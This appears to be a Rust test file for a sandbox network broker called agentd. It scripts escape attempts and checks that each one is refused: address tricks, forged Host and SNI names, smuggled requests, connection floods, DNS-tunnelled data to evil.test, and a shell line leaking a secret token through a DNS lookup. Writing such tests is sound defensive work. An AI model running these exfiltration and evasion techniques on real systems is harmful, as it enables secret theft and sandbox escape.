//! Reaching through the broker what was not allowed (THREATS.md, 4), and the broker itself.
//!
//! Each attack is a script that is also run with `--net host`, where there is no broker: there it must reach the server.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in the functions beside it")]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Command;
use std::time::Duration;

use agentd_tests::attack::{Attack, Control, assert_refused};
use agentd_tests::server::{Manner, OK, Server};
use agentd_tests::{Feature, Home, Ran, Started, is_root, require, run, wait_until};
use serde_json::Value;

/// Words for the scripts: `say` sends parts over a connection and gives what comes back, or why nothing does.
const SAY: &str = r"
import socket, ssl, sys
def say(host, port, *parts, family=socket.AF_INET):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(30); s.connect((host, port))
        for part in parts: s.sendall(part)
        s.shutdown(socket.SHUT_WR)
        back = b''
        while part := s.recv(1 << 16): back += part
        return 'heard ' + repr(back[:30])
    except OSError as error: return type(error).__name__
def hello(name, host, port):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_socket(socket.create_connection((host, port), 30), server_hostname=name)
        return 'shook hands'
    except ssl.SSLError as error: return error.reason
    except OSError as error: return type(error).__name__
";

/// What a server says that asks for another TLS hello (RFC 8446, 4.1.4).
const ANOTHER_HELLO: [u8; 49] = [
    22, 3, 3, 0, 44, 2, 0, 0, 40, 3, 3, 0xcf, 0x21, 0xad, 0x74, 0xe5, 0x9a, 0x61, 0x11, 0xbe, 0x1d, 0x8c, 0x02, 0x1e,
    0x65, 0xb8, 0x91, 0xc2, 0xa2, 0x11, 0x16, 0x7a, 0xbb, 0x8c, 0x5e, 0x07, 0x9e, 0x09, 0xe2, 0xc8, 0xa8, 0x33, 0x9c,
    0, 0x13, 1, 0, 0, 0,
];

fn python(command: &mut Command, script: &str) -> Ran {
    run(command.args(["--", "/usr/bin/python3", "-c", &format!("{SAY}{script}")]))
}

/// `agentd run -q` that may reach `port` as web.test and nothing else.
fn boxed(home: &Home, port: u16) -> Command {
    let mut command = home.run();
    command.arg("-q").arg("--allow").arg(format!("web.test:{port}")).args(["--add-host", "web.test:127.0.0.1"]);
    command
}

/// The same with the host's network.
fn open(home: &Home) -> Command {
    let mut command = home.run();
    command.args(["-q", "--net", "host"]);
    command
}

/// The refusals of the newest job.
fn refusals(home: &Home) -> Vec<Value> {
    let id = home.jobs()[0]["id"].as_str().unwrap().to_owned();
    let listed = run(home.agentd().args(["logs", "--net", "--format", "json", &id])).expect_success();
    let requests: Vec<Value> = serde_json::from_str(&listed.stdout).unwrap();
    requests.into_iter().filter(|request| request["verdict"] == "refused").collect()
}

#[track_caller]
fn assert_told(home: &Home, words: &[&str]) {
    let told = refusals(home);
    for word in words {
        assert!(told.iter().any(|refusal| refusal.to_string().contains(word)), "nothing of {word:?} in {told:#?}");
    }
}

#[test]
fn escape_addresses_are_no_way_round_a_name() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    let script = |hosts: &str| {
        format!(
            "
port = {}
for host, family in {hosts}:
    print(host, say(host, port, b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n', family=family))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
try: s.sendto(b'x', ('127.0.0.1', port)); s.recv(1)
except OSError as error: print('udp', type(error).__name__)",
            server.port()
        )
    };
    let four = "('127.0.0.1', socket.AF_INET), ('127.0.0.2', socket.AF_INET), ('::ffff:127.0.0.1', socket.AF_INET6)";
    let all = format!(
        "({four}, ('::1', socket.AF_INET6), ('192.0.2.1', socket.AF_INET), ('2001:db8::1', socket.AF_INET6), ('198.18.0.2', socket.AF_INET))"
    );
    let ran = python(&mut boxed(&home, server.port()), &script(&all)).expect_success();
    assert!(!ran.stdout.contains("ok") && ran.stdout.matches("403 Forbidden").count() == 7, "{ran}");
    assert!(ran.stdout.contains("udp "), "{ran}");
    assert_eq!(server.connections(), 0);
    assert_told(&home, &["127.0.0.1", "127.0.0.2", "::1", "192.0.2.1", "2001:db8::1", "no name has this address"]);
    let ran = python(&mut open(&home), &script(&format!("({four},)"))).expect_success();
    assert_eq!((ran.stdout.matches("200 OK").count(), server.connections()), (2, 2), "{ran}");
}

#[test]
fn escape_raw_sockets_stay_closed_beside_the_broker() {
    if !require(Feature::Userns) {
        return;
    }
    let attacks = [
        Attack::new("socket=2,3,1", "EPERM", Control::InNamespaces),
        Attack::new("socket=10,3,58", "EPERM", Control::InNamespaces),
        Attack::new("socket=17,3,0", "EAFNOSUPPORT", Control::InNamespaces),
    ];
    let home = Home::new();
    assert_refused(&home, &["--allow", "web.test"], &attacks);
    // Nobody asked the broker, so the filter tells.
    assert_eq!(home.jobs()[0]["denials"], 3);
}

/// The name service of the host may say what it likes: a name leads to the internet, or to what the user has named.
#[test]
fn escape_a_name_that_leads_to_the_host_is_refused() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    // Of the box's own resolver, which asks the broker, not of its /etc/hosts.
    let script = format!(
        "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x09localhost\\0\\0\\1\\0\\1', ('127.0.0.1', 53))
address = '.'.join(map(str, s.recv(512)[-4:]))
print(address, say(address, {}, b'GET / HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n'))",
        server.port()
    );
    let name = format!("localhost:{}", server.port());
    let ran = python(home.run().args(["-q", "--allow", &name]), &script).expect_success();
    assert!(ran.stdout.starts_with("198.18.1.0 heard b'HTTP/1.1 403"), "{ran}");
    assert_eq!(server.connections(), 0);
    assert_told(&home, &["which is the host itself", &format!("--allow 127.0.0.1:{}", server.port())]);
    // A wide network does not name it either; its own address does.
    let control = format!("127.0.0.1:{}", server.port());
    for (rule, reached) in [("0.0.0.0/0:1-52", 0), (control.as_str(), 1)] {
        let ran = python(home.run().args(["-q", "--allow", &name, "--allow", rule]), &script).expect_success();
        assert_eq!((ran.stdout.contains("200 OK"), server.connections()), (reached == 1, reached), "{ran}");
    }
}

#[test]
fn escape_what_a_client_says_must_name_the_host_it_was_connected_for() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    let script = |host: &str| {
        format!(
            r"
host, port = '{host}', {}
print(hello('other.test', host, port), hello(None, host, port))
for request in (
    b'GET / HTTP/1.1\r\nHost: other.test\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost: web.test\r\nHost: other.test\r\n\r\n',
    b'GET http://other.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n',
    b'GET / HTTP/1.1\r\nX: y\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost: web.test\0.other.test\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost: web.test@other.test\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost: xn--wb-bja.test\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost:\r\n other.test\r\n\r\n',
    b'CONNECT other.test:443 HTTP/1.1\r\nHost: web.test\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost: web.test\r\nX: ' + b'x' * 100000 + b'\r\n\r\n',
): print(say(host, port, request))",
            server.port()
        )
    };
    let ran = python(&mut boxed(&home, server.port()), &script("web.test")).expect_success();
    assert!(ran.stdout.starts_with("TLSV1_ALERT_ACCESS_DENIED TLSV1_ALERT_ACCESS_DENIED\n"), "{ran}");
    assert!(!ran.stdout.contains("200 OK") && ran.stdout.matches("403 Forbidden").count() >= 9, "{ran}");
    // The server heard nothing: the connection that waited for the client's words was closed.
    assert_eq!(server.heard(), "");
    assert_told(
        &home,
        &[
            "its TLS hello asks for other.test",
            "names no server (SNI)",
            "request asks for other.test",
            "two hosts",
            "names no host",
            "CONNECT",
            "malformed",
            "too long",
        ],
    );
    let ran = python(&mut open(&home), &script("127.0.0.1")).expect_success();
    assert!(ran.stdout.matches("200 OK").count() >= 9 && server.heard().contains("other.test"), "{ran}");
}

/// A second request behind an honest one: the server is told to close, and hears of the first that it is the last.
#[test]
fn escape_a_connection_carries_one_request() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    let script = format!(
        r"
print(say('web.test', {}, b'GET /one HTTP/1.1\r\nHost: web.test\r\nConnection: keep-alive\r\n\r\n',
    b'GET /two HTTP/1.1\r\nHost: other.test\r\n\r\n'))",
        server.port()
    );
    // The server closes with a request unread, which resets the connection: its answer may be lost on the way.
    let is_answered = |_| python(&mut boxed(&home, server.port()), &script).expect_success().stdout.contains("200 OK");
    assert!((0..20).any(is_answered));
    let heard = server.heard();
    assert!(heard.starts_with("GET /one HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n"), "{heard}");
    assert!(!heard.contains("keep-alive"), "{heard}");
}

/// At the ports of TLS and HTTP nothing else passes, whatever the server behind would take.
#[test]
fn escape_other_protocols_do_not_pass_at_the_ports_of_tls_and_http() {
    if !require(Feature::Userns) {
        return;
    }
    let home = Home::new();
    let script = |host: &str| {
        format!(
            r"
for port in (443, 80):
    print(say('{host}', port, b'EHLO spam\r\nMAIL FROM: a\r\n'), say('{host}', port, b'SSH-2.0-x\r\n'), say('{host}', port, b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))
print(say('{host}', 443, b'GET / HTTP/1.1\r\nHost: web.test\r\n\r\n'))"
        )
    };
    let allow = ["-q", "--allow", "web.test", "--allow", "web.test:80", "--add-host", "web.test:127.66.1.1"];
    // Only root may serve these ports. For a user there is no server to reach, and the refusal says why.
    let servers: Vec<Server> = [443, 80]
        .into_iter()
        .filter_map(|port| std::net::TcpListener::bind(("127.66.1.1", port)).ok())
        .map(|listener| Server::on(listener, Manner::Echoes))
        .collect();
    let ran = python(home.run().args(allow), &script("web.test")).expect_success();
    assert!(!ran.stdout.contains("EHLO") && !ran.stdout.contains("SSH"), "{ran}");
    assert!(ran.stdout.lines().last().is_some_and(|line| line.contains("403 Forbidden")), "{ran}");
    assert!(servers.iter().all(|server| server.connections() == 0));
    assert_told(&home, &["it does not speak TLS", "it does not speak HTTP/1.1"]);
    if is_root() {
        let ran = python(&mut open(&home), &script("127.66.1.1")).expect_success();
        assert_eq!(ran.stdout.matches("EHLO spam").count(), 2, "{ran}");
    }
}

/// Questions that carry something out: no name below a foreign one exists, whatever is asked, and each kind is told.
#[test]
fn escape_names_carry_nothing_out() {
    if !require(Feature::Userns) {
        return;
    }
    let home = Home::new();
    let script = "
import struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30)
codes = set()
for n in range(2000):
    for kind in (1, 16):
        name = (b'secret%d' % n, b'evil', b'test')
        q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l for l in name) + b'\\0' + struct.pack('>HH', kind, 1)
        s.sendto(q, ('127.0.0.1', 53)); codes.add(s.recv(512)[3] & 15)
print(codes)
for server in ('8.8.8.8', '192.0.2.53', '2001:db8::53'):
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    d = socket.socket(family, socket.SOCK_DGRAM); d.settimeout(30)
    try: d.connect((server, 53)); d.send(q); d.recv(512); print('answered')
    except OSError as error: print(type(error).__name__)
    print(say(server, 53, b'x', family=family))";
    let ran = python(home.run().args(["-q", "--allow", "web.test"]), script).expect_success();
    let refused = "ConnectionRefusedError\n".repeat(6);
    assert_eq!(ran.stdout, format!("{{3}}\n{refused}"), "{ran}");
    // A hundred kinds are told, all are counted.
    assert_eq!((refusals(&home).len(), &home.jobs()[0]["network"]["refused"]), (100, &4000.into()));
    assert_eq!(home.jobs()[0]["network"]["untold"], 3800);
}

/// What a box can make the broker keep has a bound, and once it is over the bound the broker goes on.
#[test]
fn escape_many_and_slow_connections_are_bounded() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    let script = format!(
        r"
import resource, select
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
def crowd(number, port, words):
    many = [socket.create_connection(('web.test', port)) for _ in range(number)]
    for s in many:
        try: s.sendall(words)
        except OSError: pass
    return many
# Heads that never end, at a port where the client speaks first.
slow = crowd(1500, 80, b'GET / HTTP/1.1\r\nX: ')
poll = select.poll()
for s in slow: poll.register(s, select.POLLHUP)
over = set()
while len(over) < 400: over |= {{fd for fd, _ in poll.poll(20000)}}
print('bounded', len(over) <= 1500 - 900)
for s in slow: poll.unregister(s)
print('one is told', b'403' in slow[0].recv(100))
for s in slow: s.close()
import time
for attempt in range(100):
    answer = say('web.test', {port}, b'GET / HTTP/1.1\r\nHost: web.test\r\n\r\n')
    if '200' in answer: break
    time.sleep(0.05)
print(answer)",
        port = server.port()
    );
    let port = server.port().to_string();
    let mut command = boxed(&home, server.port());
    command.args(["--allow", "web.test:80", "--name", "crowd"]);
    let ran = python(&mut command, &script).expect_success();
    assert!(ran.stdout.starts_with("bounded True\none is told True\nheard b'HTTP/1.1 200 OK"), "{port}: {ran}");
    assert_told(&home, &["connections at once", "the client said too little for too long"]);
}

/// A name can be a secret as well as any other word of the payload: it is in no record and no log of agentd's.
#[test]
fn escape_a_secret_that_is_asked_for_as_a_name_is_not_kept() {
    if !require(Feature::Userns) {
        return;
    }
    let home = Home::new();
    let mut command = home.run();
    command.env("TOKEN", "Tok3nOfTheTest").args(["--allow", "web.test", "--secret", "TOKEN", "--", "sh", "-c"]);
    let ran = run(command.arg("getent hosts $(cat /run/secrets/TOKEN).evil.test; exit 0")).expect_success();
    assert!(
        ran.stderr.contains("[redacted].evil.test") && !ran.stderr.to_lowercase().contains("tok3nofthetest"),
        "{ran}"
    );
    assert_eq!(refusals(&home)[0]["host"], "[redacted].evil.test");
    for path in home.paths().iter().filter(|path| path.starts_with("state")) {
        let kept = std::fs::read_to_string(home.path().join(path)).unwrap_or_default().to_lowercase();
        assert!(!kept.contains("tok3nofthetest"), "{}: {kept}", path.display());
    }
}

/// Below one rule there are more names than memory.
#[test]
fn escape_names_below_a_rule_are_bounded() {
    if !require(Feature::Userns) {
        return;
    }
    let home = Home::new();
    let script = "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30)
codes = {}
for n in range(5000):
    label = b'n%d' % n
    s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(label)]) + label + b'\\4test\\0\\0\\1\\0\\1', ('127.0.0.1', 53))
    code = s.recv(512)[3] & 15
    codes[code] = codes.get(code, 0) + 1
print(codes)";
    let ran = python(home.run().args(["-q", "--allow", "*.test"]), script).expect_success();
    assert_eq!(ran.stdout, "{0: 4096, 2: 904}\n", "{ran}");
    assert_told(&home, &["too many names"]);
}

#[test]
fn escape_cve_2025_66479_an_empty_list_allows_nothing() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    for empty in ["", " ", ","] {
        let _refused = run(home.run().args(["--allow", empty, "--", "true"])).expect_code(125);
    }
    let script = format!("print(say('127.0.0.1', {}, b'x'))", server.port());
    let ran = python(home.run().arg("-q"), &script).expect_success();
    assert_eq!((ran.stdout.as_str(), server.connections()), ("ConnectionRefusedError\n", 0));
    let ran = python(&mut open(&home), &script).expect_success();
    assert!(ran.stdout.contains("200 OK"), "{ran}");
}

/// The child of `supervisor` that calls itself agentd-net.
fn broker(supervisor: i32) -> Option<i32> {
    let children = std::fs::read_to_string(format!("/proc/{supervisor}/task/{supervisor}/children")).ok()?;
    let mut pids = children.split_whitespace().filter_map(|pid| pid.parse().ok());
    pids.find(|pid| std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|name| name == "agentd-net\n"))
}

/// Whoever took the broker over would have its connections, and the rest of the user's things would be out of reach.
#[test]
fn escape_the_broker_has_no_rights_and_its_end_costs_the_network_only() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    let script = format!("read wait; curl -s -m 5 http://web.test:{}/; echo $?", server.port());
    let mut command = boxed(&home, server.port());
    command.args(["-i", "--", "sh", "-c", &script]).stdin(std::process::Stdio::piped());
    let mut started = Started::new(&mut command);
    let supervisor = started.pid();
    let mut found = None;
    assert!(wait_until(Duration::from_secs(60), || {
        found = broker(supervisor).filter(|pid| status(*pid, "Seccomp:") == "2");
        found.is_some()
    }));
    let broker = found.unwrap();
    for (field, value) in [
        ("NoNewPrivs:", "1"),
        ("CapEff:", "0000000000000000"),
        ("CapPrm:", "0000000000000000"),
        ("CapInh:", "0000000000000000"),
    ] {
        assert_eq!(status(broker, field), value, "{field}");
    }
    // The streams of the job, the record and whatever else the supervisor has open are not there.
    let fds = std::fs::read_dir(format!("/proc/{broker}/fd"));
    if let Ok(fds) = fds {
        let open: Vec<String> =
            fds.flatten().filter_map(|fd| Some(std::fs::read_link(fd.path()).ok()?.display().to_string())).collect();
        let expected =
            |path: &String| path == "/dev/null" || path.starts_with("socket:") || path.starts_with("anon_inode:");
        assert!(open.iter().all(expected), "{open:?}");
    }
    let pid = rustix::process::Pid::from_raw(broker).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::KILL).unwrap();
    assert!(wait_until(Duration::from_secs(60), || status(broker, "State:").starts_with(['Z', 'X'])
        || status(broker, "State:").is_empty()));
    std::io::Write::write_all(&mut started.stdin().unwrap(), b"\n").unwrap();
    let ran = started.finish().expect_success();
    assert_eq!((ran.stdout.as_str(), server.connections()), ("6\n", 0), "{ran}");
    let job = &home.jobs()[0];
    assert!(job["warnings"].to_string().contains("the network broker ended"), "{job}");
}

fn status(pid: i32, field: &str) -> String {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix(field));
    line.unwrap_or_default().trim().to_owned()
}

/// A server may ask for a second TLS hello, and believes the name in that.
#[test]
fn escape_a_second_hello_is_for_the_same_name() {
    if !require(Feature::Userns) {
        return;
    }
    let home = Home::new();
    let script = |port: u16| {
        format!(
            "
import struct
def extension(kind, body): return struct.pack('>HH', kind, len(body)) + body
def first(name):
    name = name.encode()
    sni = extension(0, struct.pack('>HBH', len(name) + 3, 0, len(name)) + name)
    body = b'\\3\\3' + b'R' * 32 + b'\\0\\0\\2\\x13\\1\\1\\0' + struct.pack('>H', len(sni)) + sni
    return b'\\x16\\3\\1' + struct.pack('>HBBH', len(body) + 4, 1, 0, len(body)) + body
print(say('web.test', {port}, first('web.test'), b'\\x14\\3\\3\\0\\1\\1' + first(sys.argv[1])))"
        )
    };
    // Asks for one, and hears what comes.
    let serve = |attack: &dyn Fn(u16)| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let serving = std::thread::spawn(move || {
            let (mut client, _) = listener.accept().unwrap();
            client.write_all(&ANOTHER_HELLO).unwrap();
            let mut heard = Vec::new();
            // A connection that breaks was heard up to there.
            let _broken = client.read_to_end(&mut heard);
            String::from_utf8_lossy(&heard).into_owned()
        });
        attack(port);
        serving.join().unwrap()
    };
    let ask = |command: &mut Command, port: u16, name: &str| {
        let script = format!("{SAY}{}", script(port));
        let _ran = run(command.args(["--", "/usr/bin/python3", "-c", &script, name])).expect_success();
    };
    let heard = serve(&|port| ask(&mut boxed(&home, port), port, "web.test"));
    assert_eq!(heard.matches("web.test").count(), 2);
    let heard = serve(&|port| ask(&mut boxed(&home, port), port, "evil.test"));
    assert_eq!((heard.matches("web.test").count(), heard.matches("evil.test").count()), (1, 0));
    assert_told(&home, &["second TLS hello asks for evil.test"]);
    let heard = serve(&|port| {
        let script = format!("{SAY}{}", script(port).replace("say('web.test'", "say('127.0.0.1'"));
        let _ran = run(open(&home).args(["--", "/usr/bin/python3", "-c", &script, "evil.test"])).expect_success();
    });
    assert!(heard.contains("evil.test"));
}

/// At any port a request is for the name, however it is dressed up; behind the port may be a proxy.
#[test]
fn escape_a_request_is_known_at_any_port() {
    if !require(Feature::Userns) {
        return;
    }
    let (home, server) = (Home::new(), Server::at("127.0.0.1", OK));
    let script = |host: &str| {
        format!(
            "
for line in b'\\r\\nCONNECT evil.test:443 HTTP/1.1', b'PROPFIND / HTTP/1.1', b'PRI * HTTP/2.0', b'\\r\\n' * 40000 + b'GET / HTTP/1.1':
    print(say('{host}', {}, line + b'\\r\\nHost: evil.test\\r\\n\\r\\n'))",
            server.port()
        )
    };
    let ran = python(&mut boxed(&home, server.port()), &script("web.test")).expect_success();
    assert!(!ran.stdout.contains("200 OK"), "{ran}");
    assert_told(&home, &["asks for evil.test", "does not speak HTTP/1.1", "too long"]);
    let ran = python(&mut open(&home), &script("127.0.0.1")).expect_success();
    assert!(ran.stdout.contains("200 OK"), "{ran}");
}
